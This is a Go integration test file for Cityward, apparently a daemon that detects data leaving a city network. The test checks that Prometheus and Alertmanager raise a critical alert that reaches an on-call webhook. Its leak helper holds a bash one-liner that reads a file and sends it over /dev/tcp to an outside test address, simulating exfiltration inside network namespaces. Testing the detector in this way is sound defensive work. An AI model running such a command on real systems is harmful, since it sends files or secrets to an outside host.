package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

const shippedPrometheus = "../../configs/prometheus"

// A program reads a file of a declared store and sends it to an address beyond
// the city. The built daemon sees it, Prometheus scrapes it over TLS with a
// client certificate and judges by the shipped rules, and Alertmanager tells the
// receiver on call. All configuration files are the shipped examples with other
// addresses and paths.
func TestAlertReachesTheReceiver(t *testing.T) {
	needRoot(t)
	prometheus, alertmanager := debianProgram(t, "prometheus"), debianProgram(t, "prometheus-alertmanager")
	const secret = "a line of the civil registry\n"
	dir := t.TempDir()
	certify(t, filepath.Join(dir, "tls"))
	store := filepath.Join(dir, "registry")
	data := filepath.Join(store, "citizens")
	if err := os.Mkdir(store, 0o700); err != nil {
		t.Fatal(err)
	}
	writeFile(t, data, secret)
	notifications := make(chan notification, 100)
	receiver := httptest.NewServer(receive(notifications))
	t.Cleanup(receiver.Close)

	daemon := runDaemon(t, dir, store)
	alertAddress, prometheusAddress := freeAddress(t), freeAddress(t)
	example(t, dir, "alertmanager.example.yml", "http://127.0.0.1:9095", receiver.URL)
	startProgram(t, alertmanager, "--config.file="+filepath.Join(dir, "alertmanager.example.yml"),
		"--storage.path="+filepath.Join(dir, "alertmanager"), "--web.listen-address="+alertAddress, "--cluster.listen-address=")
	example(t, dir, "cityward.rules.yml")
	example(t, dir, "scrape.example.yml", "/etc/prometheus", dir, "15s", "1s", "localhost:9093", alertAddress,
		"registry1.city.example:19777", daemon)
	startProgram(t, prometheus, "--config.file="+filepath.Join(dir, "scrape.example.yml"),
		"--storage.tsdb.path="+filepath.Join(dir, "prometheus"), "--web.listen-address="+prometheusAddress)

	const sent = `sum(cityward_data_store_sent_bytes_total{store="civil-registry",peer_zone="outside"})`
	waitForValue(t, prometheusAddress, sent, 0)
	waitForValue(t, prometheusAddress, `count(ALERTS{alertname="CitizenDataOutsideCity"}) or vector(0)`, 0)
	refusesStrangers(t, daemon)
	began, received := leak(t, data)
	got := waitForAlert(t, notifications, "CitizenDataOutsideCity")
	t.Logf("from the connection to the receiver: %v", time.Since(began).Round(time.Millisecond))

	want := map[string]string{"alertname": "CitizenDataOutsideCity", "severity": "critical", "job": "cityward", "instance": daemon}
	if fmt.Sprint(got.Labels) != fmt.Sprint(want) {
		t.Errorf("labels %v, want %v", got.Labels, want)
	}
	if got.path != "/on-call" || got.Status != "firing" {
		t.Errorf("%s at %s, want firing at /on-call", got.Status, got.path)
	}
	if !strings.Contains(got.Annotations["summary"], daemon) || got.Annotations["runbook"] == "" {
		t.Errorf("annotations %v do not say where and what to do", got.Annotations)
	}
	if text := fmt.Sprint(got.Labels, got.Annotations); strings.Contains(text, outsideAddress) || strings.Contains(text, dir) {
		t.Errorf("the alert tells addresses or paths: %s", text)
	}
	if n := <-received; n != len(secret) {
		t.Errorf("the peer received %d bytes of %d", n, len(secret))
	}
	waitForValue(t, prometheusAddress, sent, float64(len(secret)))
}

// A runbook that names a command which does not exist helps nobody at night.
func TestRunbooksNameRealCommands(t *testing.T) {
	rules, err := os.ReadFile(filepath.Join(shippedPrometheus, "cityward.rules.yml"))
	if err != nil {
		t.Fatal(err)
	}
	root := newRoot(io.Discard, io.Discard)
	text := regexp.MustCompile(`\{\{[^}]*\}\}`).ReplaceAllString(string(rules), "X")
	commands := regexp.MustCompile("`cityward ([^`]+)`").FindAllStringSubmatch(text, -1)
	if len(commands) == 0 {
		t.Fatal("the runbooks name no commands")
	}
	for _, command := range commands {
		words := strings.Fields(command[1])
		found, left, err := root.Find(words)
		if err != nil || found == root || found.ValidateArgs(left) != nil {
			t.Errorf("cityward %s: no such command", command[1])
		}
	}
}

// runDaemon builds and starts Cityward for a machine with one store and gives
// the address where it answers.
func runDaemon(t *testing.T, dir, store string) string {
	t.Helper()
	binary := filepath.Join(dir, "cityward")
	build := exec.CommandContext(t.Context(), "go", "build", "-o", binary, ".")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	example(t, dir, "web.example.yml", "/etc/cityward", dir)
	config := filepath.Join(dir, "cityward.toml")
	writeFile(t, config, fmt.Sprintf(`
[city]
networks = ["10.77.0.0/16"]

[listen]
metrics = "127.0.0.1:0"
web_config = %q
admin = %q

[round]
interval = "1s"

[capture]
pins = ""

[[data_store]]
id = "civil-registry"
class = "citizen"
paths = [%q]
`, filepath.Join(dir, "web.example.yml"), filepath.Join(dir, "admin.sock"), store))
	daemon := startProgram(t, binary, "run", "--config", config)
	started := regexp.MustCompile(`msg=started .*metrics=(\S+)`)
	address := ""
	eventually(t, "the daemon starts", func() bool {
		if found := started.FindStringSubmatch(daemon.log()); found != nil {
			address = found[1]
		}
		return address != ""
	})
	return address
}

// refusesStrangers makes sure that it was the client certificate that let
// Prometheus in.
func refusesStrangers(t *testing.T, address string) {
	t.Helper()
	stranger := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	response, err := stranger.Get("https://" + address + "/metrics")
	if err == nil {
		response.Body.Close()
		t.Errorf("a client without a certificate got %s", response.Status)
	}
}

// example copies a shipped file, with replacements in pairs; each must be there
// to be replaced.
func example(t *testing.T, dir, name string, replacements ...string) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(shippedPrometheus, name))
	if err != nil {
		t.Fatal(err)
	}
	text := string(data)
	for i := 0; i < len(replacements); i += 2 {
		if !strings.Contains(text, replacements[i]) {
			t.Fatalf("%s has no %s", name, replacements[i])
		}
		text = strings.ReplaceAll(text, replacements[i], replacements[i+1])
	}
	writeFile(t, filepath.Join(dir, name), text)
}

// outsideAddress is where the data goes: no network of the city's.
const outsideAddress = "203.0.113.7"

// border makes a machine of its own and, beyond the city, a peer that all else
// leads to. It gives the names of their namespaces.
func border(t *testing.T) (inside, outside string) {
	t.Helper()
	inside, outside = namespace(t, "in"), namespace(t, "out")
	ip(t, "link", "add", "e0", "netns", inside, "type", "veth", "peer", "name", "e0", "netns", outside)
	ip(t, "-n", outside, "address", "add", "10.77.0.1/24", "dev", "e0")
	ip(t, "-n", outside, "address", "add", outsideAddress+"/32", "dev", "e0")
	ip(t, "-n", outside, "link", "set", "e0", "up")
	ip(t, "-n", inside, "address", "add", "10.77.0.2/24", "dev", "e0")
	ip(t, "-n", inside, "link", "set", "e0", "up")
	ip(t, "-n", inside, "route", "add", "default", "via", "10.77.0.1")
	return inside, outside
}

// leak makes a machine with a shell that opens the file, sends it beyond the city
// and keeps both open. It gives the time of the connection and, when the peer has
// them, the number of bytes.
func leak(t *testing.T, file string) (time.Time, <-chan int) {
	t.Helper()
	inside, outside := border(t)
	listener := listenIn(t, outside, outsideAddress+":443")
	shell := `exec 3<"$1" 4<>"/dev/tcp/$2/443"; read -r line <&3; echo "$line" >&4; read -r _ <&4`
	startProgram(t, "ip", "netns", "exec", inside, "bash", "-c", shell, "leak", file, outsideAddress)
	conn, err := listener.Accept()
	if err != nil {
		t.Fatal(err)
	}
	began := time.Now()
	t.Cleanup(func() { conn.Close() })
	received := make(chan int, 1)
	go func() {
		buffer := make([]byte, 4096)
		n, _ := conn.Read(buffer)
		received <- n
	}()
	return began, received
}

// namespace makes a network namespace that the end of the test removes.
func namespace(t *testing.T, name string) string {
	t.Helper()
	name = fmt.Sprintf("cityward-%s-%d", name, os.Getpid())
	ip(t, "netns", "add", name)
	t.Cleanup(func() {
		if out, err := exec.Command("ip", "netns", "delete", name).CombinedOutput(); err != nil {
			t.Errorf("ip netns delete %s: %v\n%s", name, err, out)
		}
	})
	return name
}

func ip(t *testing.T, args ...string) {
	t.Helper()
	if out, err := exec.CommandContext(t.Context(), "ip", args...).CombinedOutput(); err != nil {
		t.Fatalf("ip %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

// listenIn listens in a network namespace. A socket stays in the namespace of
// the thread that made it, and that thread ends with its goroutine.
func listenIn(t *testing.T, namespace, address string) *net.TCPListener {
	t.Helper()
	type result struct {
		net.Listener
		error
	}
	results := make(chan result)
	onSpareThread(func() {
		handle, err := os.Open("/run/netns/" + namespace)
		if err != nil {
			results <- result{nil, err}
			return
		}
		defer handle.Close()
		if err := unix.Setns(int(handle.Fd()), unix.CLONE_NEWNET); err != nil {
			results <- result{nil, err}
			return
		}
		listener, err := net.Listen("tcp", address)
		results <- result{listener, err}
	})
	made := <-results
	if made.error != nil {
		t.Fatal(made.error)
	}
	t.Cleanup(func() { made.Close() })
	listener := made.Listener.(*net.TCPListener)
	if err := listener.SetDeadline(time.Now().Add(20 * time.Second)); err != nil {
		t.Fatal(err)
	}
	return listener
}

// onSpareThread runs f on a thread that ends with it. That is never the main one, which
// cannot end, and by which /proc/self shows what namespaces this program is in.
func onSpareThread(f func()) {
	go func() {
		runtime.LockOSThread()
		if unix.Gettid() != os.Getpid() {
			f()
			return
		}
		defer runtime.UnlockOSThread()
		done := make(chan struct{})
		onSpareThread(func() {
			defer close(done)
			f()
		})
		<-done // for as long the main thread is taken
	}()
}

// startProgram starts a program that the end of the test ends.
func startProgram(t *testing.T, program string, args ...string) *daemonProcess {
	t.Helper()
	p := &daemonProcess{exec.Command(program, args...), filepath.Join(t.TempDir(), "log")}
	log, err := os.Create(p.logFile)
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	p.Stdout, p.Stderr = log, log
	if err := p.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = p.Process.Signal(unix.SIGTERM)
		stuck := time.AfterFunc(10*time.Second, func() { _ = p.Process.Kill() })
		_ = p.Wait()
		stuck.Stop()
		if t.Failed() {
			t.Logf("log of %s:\n%s", filepath.Base(program), p.log())
		}
	})
	return p
}

// notification is an alert as Alertmanager tells it to a webhook.
type notification struct {
	path        string
	Status      string            `json:"status"`
	Labels      map[string]string `json:"labels"`
	Annotations map[string]string `json:"annotations"`
}

// receive is the receivers' webhook.
func receive(notifications chan<- notification) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		var message struct {
			Alerts []notification `json:"alerts"`
		}
		if err := json.NewDecoder(r.Body).Decode(&message); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		for _, alert := range message.Alerts {
			alert.path = r.URL.Path
			notifications <- alert
		}
	}
}

func waitForAlert(t *testing.T, notifications <-chan notification, name string) notification {
	t.Helper()
	limit := time.After(60 * time.Second)
	for {
		select {
		case alert := <-notifications:
			if alert.Labels["alertname"] == name {
				return alert
			}
			t.Logf("another alert: %v", alert.Labels)
		case <-limit:
			t.Fatalf("no alert %s within a minute", name)
		}
	}
}

// waitForValue waits until Prometheus answers a query with one value.
func waitForValue(t *testing.T, address, query string, want float64) {
	t.Helper()
	var last string
	eventually(t, fmt.Sprintf("%s is %v", query, want), func() bool {
		last = get(t, "http://"+address+"/api/v1/query?query="+url.QueryEscape(query))
		var answer struct {
			Data struct {
				Result []struct {
					Value [2]any `json:"value"`
				} `json:"result"`
			} `json:"data"`
		}
		if json.Unmarshal([]byte(last), &answer) != nil || len(answer.Data.Result) != 1 {
			return false
		}
		value, err := strconv.ParseFloat(fmt.Sprint(answer.Data.Result[0].Value[1]), 64)
		return err == nil && value == want
	})
}

func eventually(t *testing.T, what string, happened func() bool) {
	t.Helper()
	for end := time.Now().Add(60 * time.Second); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		if happened() {
			return
		}
	}
	t.Fatalf("not within a minute: %s", what)
}

// certify makes an authority and what it signed for both ends of a scrape.
func certify(t *testing.T, dir string) {
	t.Helper()
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	authority := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "city authority"}, NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageCertSign, IsCA: true, BasicConstraintsValid: true,
	}
	signer := certificate(t, dir, "ca", authority, authority, nil)
	certificate(t, dir, "server", &x509.Certificate{
		SerialNumber: big.NewInt(2), IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}, authority, signer)
	certificate(t, dir, "prometheus", &x509.Certificate{
		SerialNumber: big.NewInt(3), DNSNames: []string{"prometheus.city.example"}, NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
	}, authority, signer)
}

// certificate writes a key and its certificate; without a signer it signs itself.
func certificate(t *testing.T, dir, name string, template, parent *x509.Certificate, signer *ecdsa.PrivateKey) *ecdsa.PrivateKey {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	if signer == nil {
		signer = key
	}
	der, err := x509.CreateCertificate(rand.Reader, template, parent, key.Public(), signer)
	if err != nil {
		t.Fatal(err)
	}
	private, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	for ending, block := range map[string]*pem.Block{"crt": {Type: "CERTIFICATE", Bytes: der}, "key": {Type: "PRIVATE KEY", Bytes: private}} {
		var text bytes.Buffer
		if err := pem.Encode(&text, block); err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(dir, name+"."+ending), text.String())
	}
	return key
}

// freeAddress gives a loopback address for a program that cannot be asked which
// port it chose.
func freeAddress(t *testing.T) string {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	return listener.Addr().String()
}

func writeFile(t *testing.T, file, text string) {
	t.Helper()
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

func needRoot(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 {
		skip(t, "only root may make network namespaces")
	}
}

// debianProgram finds a program of Debian's prometheus packages.
func debianProgram(t *testing.T, name string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err != nil {
		skip(t, name+" is missing: apt-get install prometheus prometheus-alertmanager")
	}
	return path
}

// skip skips a test, which in CI is a failure.
func skip(t *testing.T, reason string) {
	t.Helper()
	if os.Getenv("CI") != "" {
		t.Fatal(reason)
	}
	t.Skip(reason)
}
